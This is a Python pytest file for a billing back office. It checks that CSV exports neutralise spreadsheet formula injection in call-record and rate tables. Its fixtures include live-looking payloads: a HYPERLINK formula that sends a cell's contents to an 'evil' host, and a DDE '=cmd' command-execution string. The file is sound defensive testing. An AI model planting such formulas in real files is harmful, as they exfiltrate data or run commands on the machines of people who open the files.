"""Issue 13 point 13: no exported CSV cell is a formula a spreadsheet would run; numbers,
negative ones too, stay readable numbers."""

from __future__ import annotations

from decimal import Decimal

import pytest
from sqlalchemy import select

from rating.csv_safety import neutralise
from schema import Cdr, CustomerRate
from tests.test_back_office import login, office  # noqa: F401 (a fixture)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-", "'-"),
        ("-5", "-5"),  # a number: stays a number
        ("-0.250000", "-0.250000"),
        ("+3", "+3"),
        ("Germany - Mobile", "Germany - Mobile"),
        (7, 7),
        (None, None),
    ],
)
def test_cells_that_would_run_as_formulas_are_neutralised(cell, written):
    assert neutralise(cell) == written


def test_the_cdr_export_neutralises_formulas(office):  # noqa: F811
    app, factory, _, _ = office
    with factory() as s, s.begin():
        cdr = s.scalar(select(Cdr).where(Cdr.uniqueid == "u-A1"))
        cdr.destination = '=HYPERLINK("http://evil/?"&A1)'
        cdr.src = "@SUM(1+1)"
    export = login(app, "root").get("/admin/cdrs/export/csv/").get_data(as_text=True)
    assert "'=HYPERLINK" in export and "'@SUM(1+1)" in export
    assert ',"=HYPERLINK' not in export and ",=HYPERLINK" not in export
    assert "0.80" in export  # money stays a number


def test_the_rate_export_neutralises_formulas(office):  # noqa: F811
    app, factory, _, ids = office
    with factory() as s, s.begin():  # a row stored before the importer refused such names
        s.add(
            CustomerRate(
                dialprefix="0041",
                rateinitial=Decimal("0.2"),
                connectcharge=0,
                billingblock=60,
                reseller_id=ids["resellerA"],
                destination="=cmd|'/c calc'!A1",
            )
        )
    export = login(app, "resA").get("/admin/rate_import/export?table=customer")
    text = export.get_data(as_text=True)
    assert "'=cmd|" in text and ",=cmd" not in text
